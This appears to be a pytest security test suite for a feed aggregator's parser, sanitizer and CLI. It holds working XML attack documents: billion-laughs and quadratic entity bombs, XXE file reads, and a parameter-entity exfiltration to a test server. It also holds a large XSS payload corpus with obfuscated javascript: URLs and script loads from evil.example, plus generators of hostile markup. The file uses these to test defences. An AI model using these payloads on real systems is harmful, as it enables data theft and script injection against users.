"""Hostile content: XML attacks, markup attacks, identity and date tricks, broken encodings.

Every case goes the way the product goes: `parse_feed` on the bytes, and end to end through
the real CLI (`update`, then `render`) against a loopback FeedServer, with the SQLite file in
tmp_path. What must hold: nothing blows up (every CLI run is timed and its peak memory read
from the kernel), nothing secret or executable reaches the database or the outputs, and a
feed that cannot be read becomes that feed's error in words, never a crash.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from email.utils import format_datetime
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import lxml.etree
import lxml.html
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from aggregator.errors import ParseError
from aggregator.models import Entry, SiteConfig
from aggregator.parse import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, parse_feed, sanitize_html
from aggregator.render import atom_feed, digest_html, index_html, story_feed, tag_feed_path, tag_html
from aggregator.workers import PARALLEL_PARSE_MIN_FEEDS
from tests.conftest import DATA, VALIDATOR
from tests.feedgen import TOPICS
from tests.feedserver import FeedServer
from tests.test_render import ListSource

ATOM = "{http://www.w3.org/2005/Atom}"
RSS_TYPE = "application/rss+xml; charset=utf-8"
PARSE_NOW = datetime(2024, 6, 1, 12, 0, tzinfo=UTC)
FEED_URL = "https://hostile.example/feed/"

# A CLI run that takes longer than this was blown up; the hard timeout stops a runaway.
CLI_TIMEOUT_SECONDS = 90
ATTACK_SECONDS = 20
ATTACK_PEAK_MIB = 300
# An attack document, parsed in this process, may cost this much Python memory at most.
ATTACK_PARSE_MIB = 64


# --- running the CLI, measured -----------------------------------------------------------------


@dataclass(frozen=True)
class CliRun:
    """One finished `aggregator` command: its outcome, wall time and peak resident memory."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_rss_mib: float

    def ok(self) -> CliRun:
        assert self.returncode == 0, f"exit {self.returncode}\n{self.stdout}\n{self.stderr}"
        return self


def run_cli_measured(*args: str, timeout: float = CLI_TIMEOUT_SECONDS) -> CliRun:
    """Run `python -m aggregator ARGS`, killing it after `timeout`; the kernel reports its peak RSS."""
    env = {key: value for key, value in os.environ.items() if key != "AGGREGATOR_CONFIG"}
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.monotonic()
        process = subprocess.Popen(
            [sys.executable, "-m", "aggregator", *args], stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=env
        )
        watchdog = threading.Timer(timeout, process.kill)
        watchdog.start()
        try:
            _, status, usage = os.wait4(process.pid, 0)
        finally:
            watchdog.cancel()
        seconds = time.monotonic() - started
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return CliRun(
            returncode=process.returncode,
            stdout=out.read().decode("utf-8", "replace"),
            stderr=err.read().decode("utf-8", "replace"),
            seconds=seconds,
            peak_rss_mib=usage.ru_maxrss / 1024,  # kilobytes on Linux
        )


@dataclass
class Site:
    """A feeds.yaml, its SQLite file and its output folder in one directory, fed by a FeedServer."""

    root: Path
    server: FeedServer
    feeds: dict[str, dict[str, str]] = field(default_factory=dict)

    @property
    def config(self) -> Path:
        return self.root / "feeds.yaml"

    @property
    def database(self) -> Path:
        return self.root / "data" / "aggregator.db"

    @property
    def output_dir(self) -> Path:
        return self.root / "data" / "public"

    def serve(self, name: str, body: bytes, content_type: str = RSS_TYPE, **options: str) -> None:
        """Serve `body` as feed `name` (replacing what it served before); options go to feeds.yaml."""
        url = self.server.add(f"/{name}.xml", body, content_type=content_type)
        self.feeds[name] = {"url": url, "timeout": "30s", **options}
        lines = ["title: Hostile Content Digest", "site_url: http://127.0.0.1:8080/", "feeds:"]
        for feed, settings_ in self.feeds.items():
            lines.append(f"  - name: {feed}")
            lines += [f"    {key}: {value}" for key, value in settings_.items()]
        self.config.write_text("\n".join(lines) + "\n", encoding="utf-8")

    def cli(self, *args: str) -> CliRun:
        return run_cli_measured("--config", str(self.config), *args)

    def update(self, *names: str) -> CliRun:
        return self.cli("update", *[argument for name in names for argument in ("--feed", name)]).ok()

    def render(self) -> CliRun:
        return self.cli("render").ok()

    def statuses(self) -> dict[str, dict[str, Any]]:
        listing = self.cli("feeds", "--format", "json").ok()
        return {feed["name"]: feed for feed in json.loads(listing.stdout)}

    def rows(self, sql: str, *params: object) -> list[tuple[Any, ...]]:
        conn = sqlite3.connect(f"file:{self.database}?mode=ro", uri=True)
        try:
            return conn.execute(sql, params).fetchall()
        finally:
            conn.close()

    def text_values(self) -> Iterator[tuple[str, str, str]]:
        """(table, column, value) for every text value in every table of the database."""
        tables = [row[0] for row in self.rows("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            columns = [row[1] for row in self.rows(f'PRAGMA table_info("{table}")')]
            for row in self.rows(f'SELECT * FROM "{table}"'):
                for column, value in zip(columns, row, strict=True):
                    if isinstance(value, str):
                        yield table, column, value

    def outputs(self) -> list[Path]:
        return sorted(path for path in self.output_dir.rglob("*") if path.is_file())


@pytest.fixture
def site(tmp_path: Path, feed_server: FeedServer) -> Site:
    root = tmp_path / "site"
    root.mkdir()
    return Site(root, feed_server)


def rss_document(title: str, items: list[str], prolog: str = "", channel: str = "") -> bytes:
    """An RSS 2.0 document around ready-made <item> elements; `prolog` follows the XML declaration."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://hostile.example/</link><description>Test feed</description>{channel}\n"
        + "\n".join(items)
        + "\n</channel></rss>\n"
    ).encode()


def item(guid: str, title: str, description: str = "", extra: str = "") -> str:
    guid_element = f'<guid isPermaLink="false">{guid}</guid>'
    return f"<item>{guid_element}<title>{title}</title>{extra}<description>{description}</description></item>"


# --- auditing HTML the way a browser reads it ----------------------------------------------------

SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
EXECUTABLE_ELEMENTS = frozenset(
    {"script", "iframe", "object", "embed", "style", "base", "meta", "form", "svg", "math", "link", "applet"}
    | {"frame", "frameset", "input", "button", "textarea", "select", "template", "noscript", "portal"}
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "srcset", "background", "poster", "data", "xlink:href"}
    | {"longdesc", "usemap", "codebase", "ping", "manifest", "icon", "lowsrc", "dynsrc"}
)
# nh3 (ammonia) allows these on every element by default; they carry no behaviour.
GENERIC_ATTRIBUTES = frozenset({"lang", "title"})
_SCHEME_RE = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (already entity-decoded), if any.

    The URL standard strips leading and trailing C0 controls and spaces and drops tabs and
    newlines anywhere, so "\\x01 java\\tscript:" is a javascript: URL.
    """
    squeezed = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))
    match = _SCHEME_RE.match(squeezed)
    return match.group(1).lower() if match else None


class MarkupAudit(HTMLParser):
    """Lists everything executable in an HTML fragment or page (html.parser decodes entities)."""

    def __init__(self, *, strict_policy: bool = False, base_url: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.strict_policy = strict_policy
        self.base_url = base_url
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in EXECUTABLE_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        if self.strict_policy and tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}> is not in the sanitizer's policy")
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | GENERIC_ATTRIBUTES | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if self.strict_policy and name not in allowed:
                self.problems.append(f"<{tag} {name}> is not in the sanitizer's policy")
            if name in URL_ATTRIBUTES and value is not None:
                self._check_url(tag, name, value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _check_url(self, tag: str, name: str, value: str) -> None:
        for candidate in value.split(",") if name == "srcset" else [value]:
            scheme = url_scheme(candidate)
            if scheme is not None and scheme not in SAFE_SCHEMES:
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif scheme is None and self.base_url is not None:
                self.problems.append(f"<{tag} {name}={value!r}> left relative despite a base")


def audit(markup: str, *, strict_policy: bool = False, base_url: str | None = None) -> list[str]:
    """The executable constructs in `markup`; empty when it is safe to show."""
    auditor = MarkupAudit(strict_policy=strict_policy, base_url=base_url)
    auditor.feed(markup)
    auditor.close()
    problems = auditor.problems
    if re.search(r"<\s*/?\s*script", markup, re.I):
        problems.append("the text '<script' appears unescaped")
    return problems


def audit_page(page: bytes) -> list[str]:
    """A rendered HTML page: the template's own head is allowed, nothing else executable."""
    text = page.decode("utf-8")
    head, _, body = text.partition("</head>")
    problems = [f"page head: {problem}" for problem in _head_problems(head)]
    problems += [f"page body: {problem}" for problem in audit(body)]
    return problems


def _head_problems(head: str) -> list[str]:
    lowered = head.lower()
    problems = [f"{tag} in head" for tag in ("<script", "<base", "<iframe", "http-equiv") if tag in lowered]
    if lowered.count("<style") != 1:
        problems.append("the template's one <style> block became several")
    return problems


def audit_atom(document: bytes) -> list[str]:
    """An output feed: well-formed Atom whose html constructs are safe and whose links are web links."""
    root = lxml.etree.fromstring(document)
    problems = atom_structure_problems(root)
    for construct in root.iter(f"{ATOM}summary", f"{ATOM}content"):
        problems += [f"{construct.tag}: {problem}" for problem in audit(construct.text or "")]
    return problems


def atom_structure_problems(root: lxml.etree._Element) -> list[str]:
    """Markup smuggled into an Atom document as elements, non-text titles and non-web links."""
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str) or not element.tag.startswith(ATOM):
            problems.append(f"element {element.tag!r} outside the Atom namespace")
    for construct in root.iter(f"{ATOM}summary", f"{ATOM}content"):
        if construct.get("type") != "html" or len(construct):
            problems.append(f"{construct.tag} is not escaped html")
    for title in root.iter(f"{ATOM}title"):
        if title.get("type") != "text" or len(title):
            problems.append(f"title {title.text!r} is not plain text")
    for link in root.iter(f"{ATOM}link"):
        if url_scheme(link.get("href", "")) not in ("http", "https"):
            problems.append(f"link {link.get('href')!r}")
    return problems


def validate_feed(path: Path) -> None:
    if not VALIDATOR.is_file():
        return
    result = subprocess.run(
        [sys.executable, str(VALIDATOR), "--strict", str(path)], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout + result.stderr


# === 3. XML attacks ================================================================================

LAUGHS = "\n".join(
    ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(2, 10)]
).replace("&lol1;", "&lol;")
WIDE_VALUE = "A" * 100_000
WIDE_USES = 30_000  # 100 KB x 30,000: 3 GB if anything expanded it


def xml_attacks(secret: Path, server: FeedServer) -> dict[str, tuple[bytes, str]]:
    """Attack documents by name, each with its content type; they read `secret` or call `server`."""
    collect = server.url("/collect")
    server.add("/evil.dtd", f'<!ENTITY % file SYSTEM "file://{secret}">\n<!ENTITY leak "{collect}?%file;">')
    wide = "&wide;" * WIDE_USES
    quadratic = rss_document(
        "Wide Load", [item("q-1", "Wide: &wide;", wide)], f'\n<!DOCTYPE rss [\n<!ENTITY wide "{WIDE_VALUE}">\n]>'
    )
    utf16 = quadratic.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    return {
        "billion_laughs": (
            rss_document(
                "Laughing Stock", [item("l-1", "Laughs: &lol9;", "&lol9;&lol9;")], f"\n<!DOCTYPE rss [\n{LAUGHS}\n]>"
            ),
            RSS_TYPE,
        ),
        # On the declaration's line, where feedparser's own DOCTYPE handling does not look: expat
        # sees the whole DTD.
        "billion_laughs_inline": (
            rss_document(
                "Inline Laughs", [item("l-2", "&lol9;", "&lol9;")], f"<!DOCTYPE rss [{LAUGHS.replace(chr(10), '')}]>"
            ),
            RSS_TYPE,
        ),
        # One 100 KB entity used 30,000 times: each use is "safe" to feedparser, which re-declares
        # it for both of its parsers; the lenient one expands without limit.
        "quadratic": (quadratic, RSS_TYPE),
        # The declaration hides in a comment; feedparser's regular expressions find it anyway and
        # re-declare it under the DOCTYPE that follows.
        "quadratic_in_comment": (
            rss_document(
                "Commented Load",
                [item("q-2", "&wide;", wide)],
                f'\n<!--\n<!ENTITY wide "{WIDE_VALUE}">\n-->\n<!DOCTYPE rss>',
            ),
            RSS_TYPE,
        ),
        # The same in UTF-16: the defence must work on what feedparser decoded, not on raw bytes.
        "quadratic_utf16": (utf16, "application/rss+xml; charset=utf-16"),
        "xxe_file": (
            rss_document(
                "Outside Reader",
                [item("x-1", "Secret: &xxe;", "&xxe;")],
                f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>',
            ),
            RSS_TYPE,
        ),
        # Out-of-band exfiltration: a parameter entity reads the file into a URL on our server.
        "xxe_parameter": (
            rss_document(
                "Parameter Post",
                [item("x-2", "Sent: &send;", "&send;")],
                f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "file://{secret}">'
                f"<!ENTITY % build \"<!ENTITY &#x25; send SYSTEM '{collect}?%file;'>\"> %build; %send;]>",
            ),
            RSS_TYPE,
        ),
        "external_dtd": (
            rss_document(
                "Remote Rules",
                [item("x-3", "From the DTD: &leak;", "&leak;")],
                f'<!DOCTYPE rss SYSTEM "{server.url("/evil.dtd")}">',
            ),
            RSS_TYPE,
        ),
    }


@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    token = "SECRET-" + secrets.token_hex(12)
    path = tmp_path / "secret.txt"
    path.write_text(token + "\n", encoding="utf-8")
    return path, token


ATTACK_NAMES = [
    "billion_laughs",
    "billion_laughs_inline",
    "quadratic",
    "quadratic_in_comment",
    "quadratic_utf16",
    "xxe_file",
    "xxe_parameter",
    "external_dtd",
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ATTACK_NAMES)
def test_xml_attack_is_parsed_quickly_in_bounded_memory_and_reads_nothing(
    name: str, secret: tuple[Path, str], feed_server: FeedServer
) -> None:
    secret_path, token = secret
    body, content_type = xml_attacks(secret_path, feed_server)[name]
    tracemalloc.start()
    started = time.monotonic()
    try:
        parsed = parse_feed(body, FEED_URL, {"content-type": content_type}, PARSE_NOW)
    except ParseError as error:
        assert token not in error.message
        return
    finally:
        seconds = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert seconds < 10, f"{name} took {seconds:.1f} s"
    assert peak < ATTACK_PARSE_MIB * 2**20, f"{name} needed {peak / 2**20:.0f} MiB"
    assert token not in repr(parsed)
    assert not feed_server.hits("/collect") and not feed_server.hits("/evil.dtd")
    text = unescape("".join(entry.title + entry.summary + entry.content for entry in parsed.entries))
    assert len(text) <= len(body), "an entity was expanded"
    assert "lollol" not in text
    if "<!ENTITY" in body.decode("utf-16" if name.endswith("utf16") else "utf-8"):
        assert parsed.warning is not None


@pytest.mark.timeout(120)
def test_xml_attacks_through_the_cli_leak_nothing_and_stay_small(
    site: Site, secret: tuple[Path, str], feed_server: FeedServer
) -> None:
    secret_path, token = secret
    for name, (body, content_type) in xml_attacks(secret_path, feed_server).items():
        site.serve(name, body, content_type=content_type)
    # In batches small enough that update parses in its own process, whose peak RSS is measured.
    batch = PARALLEL_PARSE_MIN_FEEDS - 1
    runs = [site.update(*ATTACK_NAMES[start : start + batch]) for start in range(0, len(ATTACK_NAMES), batch)]
    runs.append(site.render())
    for run in runs:
        assert run.seconds < ATTACK_SECONDS, f"{run.seconds:.1f} s\n{run.stdout}{run.stderr}"
        assert run.peak_rss_mib < ATTACK_PEAK_MIB, f"{run.peak_rss_mib:.0f} MiB"

    statuses = site.statuses()
    for name in ATTACK_NAMES:
        status = statuses[name]
        assert status["status"] in ("ok", "error"), status
        if status["status"] == "error":
            assert status["last_error"] and "internal" not in status["last_error"], status
    assert not feed_server.hits("/collect") and not feed_server.hits("/evil.dtd")

    leaks = [(table, column) for table, column, value in site.text_values() if token in value]
    assert not leaks, f"the secret reached {leaks}"
    for path in site.root.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes(), f"the secret reached {path}"
    longest = site.rows("SELECT max(length(title) + length(summary) + length(content)) FROM entries")[0][0]
    assert longest < 1_000_000, "an entity was expanded into the database"
    assert not [value for _, _, value in site.text_values() if "lollol" in value]
    assert site.database.stat().st_size < 20 * 2**20
    assert not audit_atom((site.output_dir / "feed.atom").read_bytes())


# === 4. Content attacks ===========================================================================

HOSTILE_HTML = """
<p onclick="steal()" style="position:fixed;top:0">Funds <a href="javascript:alert(1)">moved</a>,
<a href="JaVaScRiPt:alert(2)">twice</a>, <a href="jav&#x09;ascript:alert(3)">thrice</a>,
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(4)">encoded</a>,
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(5)">hex without semicolons</a>,
<a href="java&#x0A;script:alert(6)">newline</a>, <a href=" &#x01; javascript:alert(7)">control</a>,
<a href="javascript&colon;alert(8)">named colon</a>, <a href="java&Tab;script:alert(9)">named tab</a>,
<a href="vbscript:msgbox(10)">vb</a>, <a href="VBScript:msgbox(11)">VB</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=">data</a>,
<a href="livescript:alert(13)">live</a>, <a href="java&#1;script:alert(14)">inert control</a>.</p>
<script>alert(15)</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT><scr<script>ipt>alert(16)</script>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(17)</script>"></iframe>
<object data="https://evil.example/flash.swf"><param name="x" value="y"></object>
<embed src="https://evil.example/e.swf"><applet code="Evil.class"></applet>
<img src="x" onerror="alert(18)"><img src="javascript:alert(19)"><IMG SRC=JaVaScRiPt:alert(20)>
<img/src="x"/onerror=alert(21)><img srcset="javascript:alert(22) 1x">
<style>body{background:url("javascript:alert(23)")}</style>
<div style="background-image:url(javascript:alert(24));width:expression(alert(25))">styled</div>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(26)">
<link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example/login"><input name="seed" onfocus="alert(27)" autofocus>
<button formaction="javascript:alert(28)">Go</button><textarea>t</textarea></form>
<svg onload="alert(29)"><script>alert(30)</script><a xlink:href="javascript:alert(31)"><text>s</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(32)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(33)>"></p></noscript>
<details open ontoggle="alert(34)"><summary>more</summary>hidden</details>
<template><img src=x onerror=alert(35)></template><!--<script>alert(36)</script>-->
<a href="https://hostile.example/report" target="_blank">the report</a> <a href="mailto:tips@hostile.example">tips</a>
<a href="/relative/page">relative</a> <a href="//cdn.hostile.example/x">protocol-relative</a>
"""
HOSTILE_TITLE = "<script>alert('t')</script><b onmouseover=alert(1)>Binance</b> <img src=x onerror=alert(2)> sued"
TEXT_TITLE = 'BTC &lt; $60k &amp; ETH &gt; $3k, "quoted"'
TEXT_TITLE_SHOWN = 'BTC < $60k & ETH > $3k, "quoted"'


def hostile_rss() -> bytes:
    """An RSS feed with markup attacks in every field that takes text or HTML."""
    author = "<dc:creator>&lt;b onmouseover=alert(3)&gt;Eve&lt;/b&gt;&lt;script&gt;alert(4)&lt;/script&gt;</dc:creator>"
    categories = (
        "<category>&lt;script&gt;alert(5)&lt;/script&gt;Security</category>"
        "<category>&lt;iframe src=javascript:alert(6)&gt;&lt;/iframe&gt;Exchanges</category>"
    )
    items = [
        f'<item><guid isPermaLink="false">h-1</guid><title><![CDATA[{HOSTILE_TITLE}]]></title>'
        f"<link>https://hostile.example/news/1</link>{author}{categories}"
        f"<description><![CDATA[{HOSTILE_HTML}]]></description>"
        f"<content:encoded><![CDATA[<div>{HOSTILE_HTML}</div>]]></content:encoded></item>",
        f'<item><guid isPermaLink="false">h-2</guid><title>{TEXT_TITLE}</title>'
        "<link>javascript:alert(7)</link>"
        "<description>A javascript: link never becomes the entry's link.</description></item>",
    ]
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        "<title>&lt;script&gt;alert('feed')&lt;/script&gt;Hostile &lt;b&gt;Herald&lt;/b&gt;</title>"
        "<link>https://hostile.example/</link><description>Attacks in every field</description>\n"
        + "\n".join(items)
        + "\n</channel></rss>\n"
    ).encode()


def hostile_atom() -> bytes:
    """An Atom feed with attacks in xhtml and html constructs, xml:base and author names."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:h="http://www.w3.org/1999/xhtml" xml:base="javascript:alert(1)//">
  <title type="xhtml"><h:div>Atom <h:script>alert(2)</h:script><h:b>Assault</h:b></h:div></title>
  <id>urn:uuid:7a1f6f64-2c4b-4a31-9a54-0d1e2f3a4b5c</id>
  <link rel="alternate" href="javascript:alert(3)"/>
  <updated>2024-05-31T10:00:00Z</updated>
  <entry>
    <id>urn:uuid:7a1f6f64-2c4b-4a31-9a54-0d1e2f3a4b5d</id>
    <title type="html">&lt;img src=x onerror=alert(4)&gt;Ether &lt;i&gt;upgrade&lt;/i&gt;</title>
    <link rel="alternate" href="https://atom.hostile.example/ether"/>
    <author><name>&lt;script&gt;alert(5)&lt;/script&gt;Mallory</name></author>
    <category term="&lt;b&gt;DeFi&lt;/b&gt;" label="&lt;script&gt;alert(6)&lt;/script&gt;"/>
    <updated>2024-05-31T09:00:00Z</updated>
    <summary type="html">{HOSTILE_HTML.replace("&", "&amp;").replace("<", "&lt;")}</summary>
    <content type="xhtml" xml:base="javascript:alert(7)//"><h:div>
      <h:script>alert(8)</h:script><h:a href="javascript:alert(9)">x</h:a><h:img src="rel.png" onerror="alert(10)"/>
      <h:svg><h:script>alert(11)</h:script></h:svg><h:p style="color:red">para</h:p>
    </h:div></content>
  </entry>
</feed>
""".encode()


TAG_RE = re.compile(r"<[A-Za-z/!?]")


@pytest.mark.parametrize("document", [hostile_rss, hostile_atom])
def test_parsed_hostile_feed_keeps_nothing_executable(document: Callable[[], bytes]) -> None:
    parsed = parse_feed(document(), FEED_URL, {}, PARSE_NOW)
    assert parsed.entries
    assert parsed.title and not TAG_RE.search(parsed.title) and "alert" not in parsed.title
    assert parsed.link is None or parsed.link.startswith("https://")
    for entry in parsed.entries:
        for text in (entry.title, entry.author or "", *entry.categories):
            assert not TAG_RE.search(text) and "alert(" not in text, text
        assert entry.link is None or entry.link.startswith("https://")
        for html in (entry.summary, entry.content):
            assert not audit(html), (audit(html), html)
            assert "evil.example" not in html


@pytest.mark.timeout(60)
def test_hostile_feeds_through_the_cli_reach_no_page_feed_or_sanitized_column(site: Site) -> None:
    site.serve("herald", hostile_rss())
    site.serve("assault", hostile_atom(), content_type="application/atom+xml")
    site.update()
    site.render()

    stored = site.rows("SELECT key, title, author, summary, content, link FROM entries")
    assert {row[0] for row in stored} >= {"h-1", "h-2"}
    for key, title, author, summary, content, link in stored:
        for text in (title, author or ""):
            assert not TAG_RE.search(text) and "alert(" not in text, (key, text)
        for html in (summary, content):
            assert not audit(html), (key, audit(html))
        assert link is None or link.startswith("https://"), link
    titles = {row[0]: row[1] for row in stored}
    assert titles["h-1"] == "Binance sued"
    assert titles["h-2"] == TEXT_TITLE_SHOWN
    assert site.rows("SELECT feed_title FROM feeds WHERE name = 'herald'")[0][0] == "Hostile Herald"
    assert all(not TAG_RE.search(path) for (path,) in site.rows("SELECT path FROM tags"))

    pages = [path for path in site.outputs() if path.suffix == ".html"]
    feeds = [path for path in site.outputs() if path.suffix == ".atom"]
    assert pages and feeds
    for path in pages:
        assert not audit_page(path.read_bytes()), (path, audit_page(path.read_bytes()))
    for path in feeds:
        assert not audit_atom(path.read_bytes()), (path, audit_atom(path.read_bytes()))
        validate_feed(path)

    # A title with "<", "&" and quotes is text: escaped in the page source, intact when read.
    page = (site.output_dir / "index.html").read_bytes()
    headlines = [element.text_content() for element in lxml.html.fromstring(page).find_class("headline")]
    assert TEXT_TITLE_SHOWN in headlines
    assert b"BTC &lt; $60k &amp; ETH &gt; $3k" in page
    feed = lxml.etree.fromstring((site.output_dir / "feed.atom").read_bytes())
    atom_titles = [title.text for title in feed.iter(f"{ATOM}title")]
    assert TEXT_TITLE_SHOWN in atom_titles


# --- properties: the sanitizer ---

BASES = st.sampled_from([None, "https://news.example/feed/", "http://news.example/a/b?c=d", "javascript:x//"])
DANGEROUS_SCHEMES = ["javascript", "JaVaScRiPt", "vbscript", "data", "livescript", "file", "jar", "ftp"]
TAG_NAMES = [
    *("script", "SCRIPT", "iframe", "object", "embed", "style", "base", "meta", "form", "svg", "math"),
    *("link", "applet", "frameset", "frame", "input", "button", "textarea", "select", "template"),
    *("noscript", "xmp", "plaintext", "noembed", "title", "image", "isindex", "x-evil", "h:script"),
    *("a", "img", "p", "div", "span", "table", "td", "blockquote", "q", "ol", "li", "details", "summary"),
    *("mglyph", "malignmark", "foreignObject", "desc", "use", "animate", "set", "video", "audio", "source"),
]
ATTRIBUTE_NAMES = [
    *("href", "src", "xlink:href", "action", "formaction", "srcset", "data", "background", "poster", "cite"),
    *("onload", "onerror", "OnClick", "onmouseover", "ontoggle", "onfocus", "style", "STYLE", "srcdoc"),
    *("title", "alt", "class", "id", "target", "rel", "width", "colspan", "datetime", "http-equiv", "content"),
    *("attributeName", "to", "values", "from", "by"),
]


@st.composite
def obfuscated(draw: st.DrawFn, text: str) -> str:
    """`text` as an attacker writes it: case changes, character references, tabs, newlines, NULs."""
    out = []
    for char in text:
        form = draw(st.integers(0, 9))
        if form == 1:
            out.append(char.swapcase())
        elif form == 2:
            out.append(f"&#{draw(st.sampled_from(['', '0', '000']))}{ord(char)};")
        elif form == 3:
            out.append(f"&#x{ord(char):x}{draw(st.sampled_from([';', '']))}")
        elif form == 4:
            out.append(draw(st.sampled_from(["\t", "\n", "&#x09;", "&Tab;", "&NewLine;", "\x00", "&#1;"])) + char)
        else:
            out.append(char)
    return "".join(out)


@st.composite
def hostile_url(draw: st.DrawFn) -> str:
    scheme = draw(st.sampled_from([*DANGEROUS_SCHEMES, "http", "https", "mailto", ""]))
    target = draw(st.sampled_from(["alert(1)", "//evil.example/x", "text/html;base64,PHNjcmlwdD4=", "a@b.example"]))
    url = f"{scheme}:{target}" if scheme else draw(st.sampled_from(["/relative", "rel.png", "#top", "?q=1", ""]))
    prefix = draw(st.sampled_from(["", " ", "\x01", "&#x20;", "\t", "&#0;"]))
    return prefix + draw(obfuscated(url))


@st.composite
def hostile_markup(draw: st.DrawFn) -> str:
    """Tag soup: dangerous and ordinary elements, handlers, styles and URL tricks, often malformed."""
    pieces: list[str] = []
    for _ in range(draw(st.integers(1, 10))):
        kind = draw(st.integers(0, 4))
        if kind == 0:
            pieces.append(draw(st.text(max_size=20)))
            continue
        if kind == 1:
            pieces.append(
                draw(st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "<?x ?>", "<!DOCTYPE html>", "</", "<", "&"]))
            )
            continue
        tag = draw(st.sampled_from(TAG_NAMES))
        attributes = []
        for _ in range(draw(st.integers(0, 3))):
            name = draw(st.sampled_from(ATTRIBUTE_NAMES))
            value = draw(hostile_url()) if draw(st.booleans()) else draw(st.text(max_size=12))
            quote = draw(st.sampled_from(['"', "'", ""]))
            if not quote and (not value or re.search(r"[\s\"'<>=`]", value)):
                quote = '"'
            value = value.replace(quote, "") if quote else value
            attributes.append(f"{draw(st.sampled_from([' ', '/', chr(10)]))}{name}={quote}{value}{quote}")
        closing = draw(st.sampled_from([">", "/>", " >"]))
        pieces.append(f"<{tag}{''.join(attributes)}{closing}")
        if draw(st.booleans()):
            pieces.append(f"</{tag}>")
    return "".join(pieces)


SPECIAL_CHARACTERS = st.sampled_from(
    [
        *("\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\ud800", "\udfff", "\ufffe", "\uffff"),
        *("\u2028", "\u202e", "\u200b", "\ufeff", "<", ">", "&", '"', "'", "]]>", "--", "&#0;", "\U0001f680"),
    ]
)
ANY_CHARACTERS = st.characters(exclude_categories=())
WILD_TEXT = st.one_of(
    st.text(ANY_CHARACTERS, max_size=60),
    st.lists(st.one_of(st.text(ANY_CHARACTERS, max_size=8), SPECIAL_CHARACTERS), max_size=20).map("".join),
)


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markup=st.one_of(hostile_markup(), WILD_TEXT), base=BASES)
@example(markup='<blockquote cite="">', base="https://news.example/feed/")  # nh3 left the empty cite relative
def test_sanitizer_output_is_never_executable(markup: str, base: str | None) -> None:
    output = sanitize_html(markup, base)
    usable_base = base if base and base.startswith("http") else None
    assert not audit(output, strict_policy=True, base_url=usable_base), (audit(output, strict_policy=True), output)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", output), "not valid in XML"


# --- properties: rendering ---

DATES = st.datetimes(
    min_value=datetime(1970, 1, 1),
    max_value=datetime(2100, 1, 1),
    timezones=st.one_of(
        st.none(), st.just(UTC), st.integers(-14 * 60, 14 * 60).map(lambda m: timezone(timedelta(minutes=m)))
    ),
)
